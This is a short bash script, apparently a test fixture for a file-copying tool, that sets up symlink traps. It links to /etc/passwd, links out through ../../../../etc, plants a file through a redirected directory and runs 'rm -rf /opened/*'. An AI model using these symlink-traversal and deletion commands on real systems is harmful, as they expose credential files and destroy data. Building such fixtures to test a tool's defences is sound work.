#!/bin/bash
# does: leads whoever copies its files astray
# report: "kind":"symlink"|"path":"/root/results","reads":0,"writes":1
ln -s /etc/passwd results; ln -s ../../../../etc out; mkdir a; ln -s /opened a/back; echo x >/opened/planted 2>/dev/null
rm -rf /opened/* 2>/dev/null
